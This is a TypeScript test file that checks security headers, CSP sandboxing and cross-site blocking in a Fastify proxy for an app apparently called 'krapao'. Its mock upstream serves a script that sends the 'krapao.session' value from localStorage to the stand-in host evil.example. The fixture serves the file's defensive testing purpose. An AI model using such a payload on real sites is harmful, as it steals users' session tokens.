import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fastify from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { defaultConfig } from '../config.shared.ts';
import { buildWebServer } from './app.ts';

const dist = mkdtempSync(join(tmpdir(), 'krapao-dist-'));
const upstream = fastify();
let address = '';

beforeAll(async () => {
  mkdirSync(join(dist, 'assets'));
  writeFileSync(join(dist, 'index.html'), '<html lang="th"><head></head><body>the app</body></html>');
  upstream.all('/*', (request, reply) =>
    reply
      .headers({
        'content-type': request.url.endsWith('.svg') ? 'image/svg+xml' : 'text/html',
        'content-security-policy': "script-src 'unsafe-inline'",
        'cross-origin-opener-policy': 'unsafe-none',
        'referrer-policy': 'unsafe-url',
        server: 'Operator/1.2.3',
        'x-powered-by': 'Express',
        'service-worker-allowed': '/',
        etag: '"kept"',
        ...(request.url.includes('kept') && { 'cache-control': 'public, max-age=60' }),
      })
      .send('<script>fetch("//evil.example/?" + localStorage.getItem("krapao.session"))</script>'),
  );
  address = await upstream.listen({ host: '127.0.0.1', port: 0 });
});

afterAll(async () => {
  await upstream.close();
  rmSync(dist, { recursive: true });
});

const ask = async (url: string, headers: Record<string, string> = {}, mock = false) => {
  const app = await buildWebServer({ dist, upstream: address, mock, config: defaultConfig });
  return app.inject({ url, headers });
};

describe('what a backend stores and this origin passes on', () => {
  it.each(['/media/banner.html', '/media/logo.svg', '/api/wallet', '/socket.io/?EIO=4'])(
    'runs nothing when it is opened by itself: %s',
    async (url) => {
      const { headers } = await ask(url);
      expect(headers['content-security-policy']).toBe(
        "sandbox; default-src 'none'; img-src 'self'; media-src 'self'; frame-ancestors 'none'",
      );
      expect(headers).toMatchObject({
        'x-content-type-options': 'nosniff',
        'strict-transport-security': expect.stringMatching(/^max-age=\d{8}/),
        'referrer-policy': 'no-referrer',
        etag: '"kept"',
      });
      // Together with a sandbox browsers take it for an error of the network.
      expect(headers['cross-origin-opener-policy']).toBeUndefined();
      for (const name of ['server', 'x-powered-by', 'service-worker-allowed'])
        expect(headers[name]).toBeUndefined();
    },
  );

  it.each(['script', 'serviceworker', 'worker'])('is never run as a %s of the page', async (destination) => {
    const asked = { 'sec-fetch-dest': destination, 'sec-fetch-site': 'same-origin' };
    expect((await ask('/media/logo.js', asked)).statusCode).toBe(403);
    expect((await ask('/api/chat/file.js', asked)).statusCode).toBe(403);
    // The simulator's own script is one of the page.
    expect((await ask('/__mock/page.js', asked, true)).statusCode).toBe(200);
  });

  it('keeps the rules of a simulator for its game pages', async () => {
    const { headers } = await ask('/games/pg', {}, true);
    expect(headers['content-security-policy']).toBe("script-src 'unsafe-inline'");
    expect(headers['strict-transport-security']).toBeDefined();
    expect(headers['x-powered-by']).toBeUndefined();
  });
});

describe('answers of the API', () => {
  it('are kept by nobody unless the backend says so', async () => {
    expect((await ask('/api/wallet')).headers['cache-control']).toBe('no-store');
    expect((await ask('/api/kept')).headers['cache-control']).toBe('public, max-age=60');
    expect((await ask('/media/logo.svg')).headers['cache-control']).toBeUndefined();
  });

  it('are for no other site: some GETs change things', async () => {
    expect((await ask('/api/bonus/clear', { 'sec-fetch-site': 'cross-site' })).statusCode).toBe(403);
    for (const site of ['same-origin', 'none'])
      expect((await ask('/api/wallet', { 'sec-fetch-site': site })).statusCode).toBe(200);
  });
});
